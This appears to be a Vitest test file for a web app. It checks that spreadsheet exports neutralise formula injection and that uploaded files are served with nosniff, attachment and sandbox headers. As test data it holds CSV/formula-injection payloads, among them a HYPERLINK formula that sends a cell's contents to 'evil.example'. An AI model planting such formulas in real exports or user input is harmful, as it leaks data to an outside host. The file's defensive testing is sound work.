import { buffer } from 'node:stream/consumers';
import { sql } from 'drizzle-orm';
import { readSheet } from 'read-excel-file/node';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { neutraliseFormula, restoreNeutralised } from '../src/lib/formula-guard';
import { xlsxStream } from '../src/lib/xlsx-writer';
import { api, buildTestApp, login, TENANT_A, type TestApp } from './helpers';
import { PDF, createMeeting, meetingBody, multipart, repChoices, upload } from './meeting-fixtures';

const PNG = Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360000002000005000157c2b0a10000000049454e44ae426082', 'hex');
const FORMULAS = ['=HYPERLINK("http://evil.example","Click")', '+1+1', '-2+3', '@SUM(A1)', '\tTAB', '\rCR'];

describe('exports cannot carry formulas', () => {
  it('neutralises text that a spreadsheet would run, and leaves other text alone', () => {
    for (const text of FORMULAS) expect(neutraliseFormula(text)).toBe(`'${text}`);
    for (const text of ['张三', 'a=b', '1-2', '', "'quoted"]) expect(neutraliseFormula(text)).toBe(text);
    for (const text of FORMULAS) expect(restoreNeutralised(neutraliseFormula(text))).toBe(text);
  });

  it('writes user text as inert text in every xlsx the writer produces', async () => {
    const file = await buffer(xlsxStream({ columns: [{ header: 'Remark' }, { header: 'Count' }], rows: FORMULAS.map((text, i) => [text, -i - 1]) }));
    const rows = (await readSheet(file)) as unknown[][];
    expect(rows.slice(1).map((row) => row[0])).toEqual(FORMULAS.map((text) => `'${text}`));
    // Numbers stay numbers: only text is neutralised.
    expect(rows.slice(1).map((row) => row[1])).toEqual(FORMULAS.map((_, i) => -i - 1));
    expect(file.toString('latin1')).not.toContain('<f>');
  });
});

describe('exports and stored files over HTTP', () => {
  let t: TestApp;
  let rep: string;
  let manager: string;
  const send = (token: string, url: string, form: { payload: Buffer; contentType: string }) =>
    t.app.inject({ method: 'POST', url, payload: form.payload, headers: { host: TENANT_A, authorization: `Bearer ${token}`, 'content-type': form.contentType } });

  beforeAll(async () => {
    t = await buildTestApp();
    rep = (await login(t.app, 'rep')).access_token;
    manager = (await login(t.app, 'manager')).access_token;
  });
  afterAll(() => t?.close());

  it('neutralises a formula a rep typed as a remark in the verification download', async () => {
    const doctorId = Number(
      (
        (await t.app.db.execute(sql`select d.id from doctor d join doctor_assignment a on a.doctor_id = d.id join organization o on o.id = a.org_id
      where o.code = 'T-SH1-1' and d.tenant_id = 1 order by d.id limit 1`)) as unknown as { rows: Array<{ id: number }> }
      ).rows[0]!.id,
    );
    const remark = '=HYPERLINK("http://evil.example/?"&A1,"Details")';
    const draft = await api(t.app, rep, { method: 'POST', url: '/prod-api/doctor/verify/save', payload: { doctorId, remark } });
    expect(draft.statusCode).toBe(200);
    const download = await api(t.app, manager, { url: '/prod-api/doctor/verify/download?size=1000', lang: 'en' });
    expect(download.statusCode).toBe(200);
    const rows = (await readSheet(download.rawPayload)) as unknown[][];
    const remarkColumn = rows[0]!.indexOf('Remark');
    const cells = rows.slice(1).map((row) => row[remarkColumn]);
    expect(cells).toContain(`'${remark}`);
    expect(cells).not.toContain(remark);
  });

  it('serves stored files with nosniff, and anything but a checked image as an attachment', async () => {
    const doctorId = Number(
      (
        (await t.app.db.execute(sql`select d.id from doctor d join doctor_assignment a on a.doctor_id = d.id join organization o on o.id = a.org_id
      where o.code = 'T-SH1-1' and d.tenant_id = 1 order by d.id desc limit 1`)) as unknown as { rows: Array<{ id: number }> }
      ).rows[0]!.id,
    );
    const draft = (await api(t.app, rep, { method: 'POST', url: '/prod-api/doctor/verify/save', payload: { doctorId } })).json().result;
    for (const [name, content] of [
      ['licence.png', PNG],
      ['licence.pdf', PDF],
    ] as const) {
      expect((await send(rep, `/prod-api/doctor/verify/upload/certificate?id=${draft.id}`, multipart({}, { name, content }))).statusCode).toBe(200);
    }
    const listed = (await api(t.app, rep, { url: `/prod-api/doctor/verify/find/certificate/${draft.id}` })).json().result as Array<{ url: string; contentType: string }>;
    const image = await api(t.app, rep, { url: listed.find((c) => c.contentType === 'image/png')!.url });
    expect(image.headers['x-content-type-options']).toBe('nosniff');
    expect(image.headers['content-disposition']).toMatch(/^inline;/);
    const pdf = await api(t.app, rep, { url: listed.find((c) => c.contentType === 'application/pdf')!.url });
    expect(pdf.headers['x-content-type-options']).toBe('nosniff');
    expect(pdf.headers['content-disposition']).toMatch(/^attachment;/);
    expect(pdf.headers['content-security-policy']).toContain('sandbox');

    const meetingId = await createMeeting(t, rep, meetingBody(await repChoices(t, rep)));
    const stored = (await upload(t, rep, meetingId, { kind: 'ATTACHMENT' }, { name: 'agenda.pdf', content: PDF })).json().result;
    const file = await api(t.app, rep, { url: `/prod-api/meeting/${meetingId}/file/${stored.id}` });
    expect(file.statusCode).toBe(200);
    expect(file.headers['x-content-type-options']).toBe('nosniff');
    expect(file.headers['content-disposition']).toMatch(/^attachment;/);
  });
});
